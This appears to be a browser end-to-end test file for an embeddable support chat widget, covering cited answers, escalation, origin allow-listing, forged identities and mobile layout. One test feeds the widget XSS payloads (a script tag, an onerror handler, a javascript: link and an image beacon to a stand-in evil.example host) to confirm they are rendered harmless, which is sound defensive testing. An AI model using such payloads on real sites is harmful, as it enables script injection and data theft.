import type { Server } from 'node:http';
import { postAgentMessage } from '@replyline/core';
import { findTenantByPublishableKey, schema, withTenant, type TenantId } from '@replyline/db';
import { desc, eq } from 'drizzle-orm';
import type { Browser } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { hasChromium } from './env';
import {
  launchChromium,
  launchRegularProfile,
  openWidget,
  startApi,
  startHostSite,
  startSharedDatabase,
  type RunningApi,
  type SharedDatabase,
} from './harness';

const DEMO_KEY = 'pk_demo_northwind';
const SHOTS = 'test-results';

/** A customer's page: the snippet's queue stub, one script tag, and its own script after it. */
function hostPage(apiOrigin: string, extra = '') {
  return `<!doctype html><html lang="en"><head><title>Customer site</title><meta name="viewport" content="width=device-width,initial-scale=1"></head>
    <body><h1>Welcome to Northwind</h1><p id="after">host page still works</p>
    <script>window.Replyline = window.Replyline || function () { (window.Replyline.q = window.Replyline.q || []).push(arguments); };</script>
    <script src="${apiOrigin}/widget.js" data-key="${DEMO_KEY}" async></script>
    <script>document.getElementById('after').dataset.ran = 'yes';</script>${extra}</body></html>`;
}

describe.runIf(hasChromium)('the widget on a customer site, in Chromium', () => {
  let database: SharedDatabase;
  let api: RunningApi;
  let browser: Browser;
  let site: { origin: string; server: Server };
  let foreign: { origin: string; server: Server };
  let tenantId: TenantId;

  beforeAll(async () => {
    database = await startSharedDatabase();
    tenantId = (await findTenantByPublishableKey(database.db, DEMO_KEY))!.id;
    [api, browser] = await Promise.all([startApi({ databaseUrl: database.url }), launchChromium()]);
    site = await startHostSite(hostPage(api.origin));
    foreign = await startHostSite(hostPage(api.origin));
    // The business lists its website; the second site is not on the list.
    await database.db
      .update(schema.tenants)
      .set({ allowedOrigins: ['http://localhost:3000', site.origin] })
      .where(eq(schema.tenants.id, tenantId));
    // The API's first start compiles its TypeScript: slow on a busy machine.
  }, 300_000);

  afterAll(async () => {
    await browser?.close();
    site?.server.close();
    foreign?.server.close();
    await api?.stop();
    await database?.stop();
  });

  it('answers a question with a streamed, cited answer and keeps the history across a reload', async () => {
    const profile = await launchRegularProfile();
    const page = await profile.context.newPage();
    const pageErrors: string[] = [];
    page.on('pageerror', (e) => pageErrors.push(e.message));
    await page.goto(site.origin);
    expect(await page.locator('#after').getAttribute('data-ran')).toBe('yes');
    // The launcher mounts once the tenant's branding is known, which may be after `load`.
    await page.locator('replyline-widget button.launcher').waitFor();
    await page.screenshot({ path: `${SHOTS}/widget-closed.png` });

    const frame = await openWidget(page);
    const frameUrl = new URL(frame.url());
    expect(frameUrl.origin).toBe(api.origin);
    expect(frameUrl.origin).not.toBe(site.origin);
    // Host-page scripts cannot reach into the conversation: the frame is cross-origin.
    const peek = await page.evaluate(() => {
      const widget = document.querySelector('replyline-widget')!;
      const iframe = widget.shadowRoot!.querySelector('iframe')!;
      try {
        return iframe.contentWindow!.document.body.innerText;
      } catch (error) {
        return `blocked: ${(error as Error).name}`;
      }
    });
    expect(peek).toMatch(/^blocked/);

    await frame.locator('textarea[aria-label="Message"]').fill('How much does a move cost?');
    await frame.locator('button[aria-label="Send"]').click();
    const answer = frame.locator('[data-role="assistant"]').last();
    await answer.locator('.sources').waitFor({ timeout: 20_000 });
    expect(await answer.innerText()).toMatch(/hour|price|cost|kr|SEK|\$/i);
    expect(await answer.locator('sup.cite').count()).toBeGreaterThan(0);
    expect(await answer.locator('.sources li').first().innerText()).not.toBe('');
    await page.screenshot({ path: `${SHOTS}/widget-answer.png` });

    await page.reload();
    const again = await openWidget(page);
    await again.locator('[data-role="assistant"]').first().waitFor();
    expect(await again.locator('[data-role="visitor"]').first().innerText()).toContain(
      'How much does a move cost?',
    );
    expect(pageErrors).toEqual([]);
    await profile.close();
  });

  it('escalates to a human and shows the ticket number', async () => {
    const page = await browser.newPage();
    await page.goto(site.origin);
    const frame = await openWidget(page);
    await frame.locator('[data-action="human"]').first().click();
    await frame.locator('[name="email"]').fill('kari@example.com');
    await frame.locator('[name="message"]').fill('My sofa arrived scratched.');
    await frame.locator('form:has([name="email"]) button[type="submit"]').click();
    const ticket = frame.locator('[data-ticket-number]');
    await ticket.waitFor();
    expect(Number(await ticket.getAttribute('data-ticket-number'))).toBeGreaterThan(0);
    await page.screenshot({ path: `${SHOTS}/widget-ticket.png` });
    await page.close();
  });

  it('shows an agent reply live, with malicious Markdown and HTML rendered harmless', async () => {
    const page = await browser.newPage();
    const outside: string[] = [];
    page.on('request', (r) => {
      const host = new URL(r.url()).hostname;
      if (host !== 'localhost' && host !== '127.0.0.1') outside.push(r.url());
    });
    await page.goto(site.origin);
    const frame = await openWidget(page);
    await frame.locator('textarea[aria-label="Message"]').fill('Do you move pianos?');
    await frame.locator('button[aria-label="Send"]').click();
    await frame.locator('[data-role="assistant"]').last().waitFor();
    // The frame's state is private to it; the test finds the conversation in the database.
    const [conversation] = await withTenant(database.db, tenantId, (tx) =>
      tx
        .select({ id: schema.conversations.id })
        .from(schema.conversations)
        .where(eq(schema.conversations.tenantId, tenantId))
        .orderBy(desc(schema.conversations.lastMessageAt))
        .limit(1),
    );

    const attack = [
      'Here you go <script>window.__pwned = 1</script>',
      '<img src=x onerror="window.__pwned = 2">',
      '[click me](javascript:window.__pwned=3) and ![tracking](https://evil.example/leak?c=secret)',
      '**bold** and a [real link](https://northwind.example/help)',
    ].join('\n\n');
    await postAgentMessage(database.db, tenantId, conversation!.id, {
      authorUserId: null,
      content: attack,
    });
    const agent = frame.locator('[data-role="agent"]').last();
    await agent.waitFor({ timeout: 15_000 });
    await page.screenshot({ path: `${SHOTS}/widget-agent-reply.png` });

    expect(await agent.innerText()).toContain('<script>window.__pwned = 1</script>');
    expect(await agent.locator('script, img, iframe').count()).toBe(0);
    expect(await agent.locator('a[href^="javascript"]').count()).toBe(0);
    expect(await agent.locator('a[href="https://northwind.example/help"]').count()).toBe(1);
    expect(await agent.locator('strong').count()).toBe(1);
    expect(await frame.evaluate(() => (window as { __pwned?: number }).__pwned)).toBeUndefined();
    expect(await page.evaluate(() => (window as { __pwned?: number }).__pwned)).toBeUndefined();
    expect(outside).toEqual([]);
    await page.close();
  });

  it('ignores messages posted to the chat frame from a foreign origin', async () => {
    const page = await browser.newPage();
    const starts: string[] = [];
    page.on('request', (r) => {
      if (r.url().endsWith('/v1/conversations')) starts.push(r.postData() ?? '');
    });
    await page.goto(site.origin);
    await openWidget(page);
    await expect.poll(() => starts.length).toBe(1);
    // A frame from another website, inside the customer page, finds the chat frame and posts to it.
    await page.evaluate((foreignOrigin) => {
      const intruder = document.createElement('iframe');
      intruder.src = `${foreignOrigin}/`;
      document.body.appendChild(intruder);
    }, foreign.origin);
    const findIntruder = () => page.frames().find((f) => f.url().startsWith(foreign.origin));
    await expect.poll(findIntruder).toBeDefined();
    const intruderFrame = findIntruder()!;
    await intruderFrame.waitForLoadState();
    await intruderFrame.evaluate(() => {
      const chat = window.parent.frames[0]!;
      chat.postMessage(
        {
          source: 'replyline',
          type: 'identify',
          identity: { userId: 'admin', signature: 'f'.repeat(64) },
        },
        '*',
      );
    });
    await new Promise((resolve) => setTimeout(resolve, 1_000));
    expect(starts).toHaveLength(1);
    await page.close();
  });

  it('refuses a forged identity hash and says so politely', async () => {
    const page = await browser.newPage();
    const refusals: number[] = [];
    page.on('response', (r) => {
      if (r.url().endsWith('/v1/conversations') && r.status() >= 400) refusals.push(r.status());
    });
    await page.goto(site.origin);
    await page.evaluate(() => {
      (window as unknown as { Replyline: (c: string, p: unknown) => void }).Replyline('identify', {
        userId: 'user-1',
        name: 'Mallory',
        signature: '0'.repeat(64),
      });
    });
    await page.locator('replyline-widget button[aria-label^="Open chat"]').click();
    await expect.poll(() => refusals, { timeout: 10_000 }).toContain(401);
    const handle = await page.locator('replyline-widget iframe[title="Chat"]').elementHandle();
    const frame = (await handle!.contentFrame())!;
    await frame.locator('[data-state="unavailable"], [data-state="error"]').first().waitFor();
    await page.close();
  });

  it('shows no bubble at all on a website that is not on the allow-list, and records the sighting', async () => {
    const page = await browser.newPage();
    const pageErrors: string[] = [];
    page.on('pageerror', (e) => pageErrors.push(e.message));
    const config = page.waitForResponse((r) => r.url().includes('/v1/widget/config'));
    await page.goto(foreign.origin);
    expect((await config).status()).toBe(403);
    await expect.poll(() => page.locator('replyline-widget').count()).toBe(0);
    expect(await page.locator('#after').getAttribute('data-ran')).toBe('yes');
    expect(pageErrors).toEqual([]);
    await page.screenshot({ path: `${SHOTS}/widget-refused.png` });
    const sightings = await withTenant(database.db, tenantId, (tx) =>
      tx
        .select({ origin: schema.widgetSightings.origin, allowed: schema.widgetSightings.allowed })
        .from(schema.widgetSightings)
        .where(eq(schema.widgetSightings.origin, foreign.origin)),
    );
    expect(sightings).toEqual([{ origin: foreign.origin, allowed: false }]);
    await page.close();
  });

  it('fits a 360 px phone screen and can be used with the keyboard only', async () => {
    const page = await browser.newPage({ viewport: { width: 360, height: 740 } });
    await page.goto(site.origin);
    await page.locator('replyline-widget button.launcher').waitFor();
    await page.keyboard.press('Tab');
    await page.keyboard.press('Enter');
    const handle = await page.locator('replyline-widget iframe[title="Chat"]').elementHandle();
    const box = await handle!.boundingBox();
    expect(box!.width).toBeGreaterThanOrEqual(350);
    const frame = (await handle!.contentFrame())!;
    const composer = frame.locator('textarea[aria-label="Message"]');
    await composer.waitFor();
    await expect.poll(() => composer.evaluate((el) => el === document.activeElement)).toBe(true);
    await page.keyboard.type('Which areas do you serve?');
    await page.keyboard.press('Enter');
    await frame.locator('[data-role="assistant"]').last().waitFor({ timeout: 20_000 });
    // Neither the page nor the chat inside its frame scrolls sideways.
    const overflow = () => document.documentElement.scrollWidth - window.innerWidth;
    expect(await page.evaluate(overflow)).toBeLessThanOrEqual(0);
    expect(await frame.evaluate(overflow)).toBeLessThanOrEqual(0);
    await page.screenshot({ path: `${SHOTS}/widget-phone.png` });
    await page.close();
  });
});
